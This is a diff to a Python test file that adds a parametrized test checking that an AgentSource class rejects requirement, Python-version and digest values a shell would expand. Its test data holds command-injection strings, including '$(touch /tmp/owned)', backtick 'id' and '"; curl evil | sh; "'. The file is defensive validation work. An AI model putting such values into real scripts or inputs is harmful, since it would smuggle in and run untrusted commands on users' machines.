@@ -6,7 +6,7 @@ from pathlib import Path
 import pytest
 from pydantic import SecretStr
 
-from prefect_remote.machine.boot import decode_agent_config, render_boot_script
+from prefect_remote.machine.boot import AgentSource, decode_agent_config, render_boot_script
 from prefect_remote.machine.runtime import MachineRuntime
 from prefect_remote.providers.base import BootPayload
 from prefect_remote.providers.local import LocalProvider
@@ -220,3 +220,25 @@ def test_an_agent_past_its_main_loop_ends_the_machine_itself_and_pushes_the_back
     assert not halted.exists() and ended.read_text() == "payload finished"
     assert backstop.read_text().splitlines() == [f"+{BOOT_BACKSTOP_MINUTES}", "+2"]
     assert f"backstop: scheduled (echo +{BOOT_BACKSTOP_MINUTES} >> {backstop})" in ran.stdout
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"requirement": "prefect-remote==$(touch /tmp/owned)"},
+        {"requirement": 'prefect-remote"; curl evil | sh; "'},
+        {"requirement": "prefect-remote==0.2.0`id`"},
+        {"python": "3.11$(id)"},
+        {"digest": "$(id)"},
+    ],
+)
+def test_an_agent_source_a_shell_would_expand_is_refused(fields):
+    """The requirement and the key derived from it sit inside double quotes in the boot script, and a
+    cluster's plan (its secret) carries them to the scheduler that renders its workers' scripts: only
+    plain requirements, versions and digests are taken."""
+    with pytest.raises(ValueError, match="AgentSource: "):
+        AgentSource(**{"requirement": "prefect-remote==0.2.0", "python": "3.11.7", **fields})
+    assert (
+        AgentSource("prefect-remote[aws,gcp]==0.2.0.dev3+g1a2b", python="3.11.7").key
+        == "prefect-remote-aws-gcp==0.2.0.dev3+g1a2b-py3.11.7-agent"
+    )
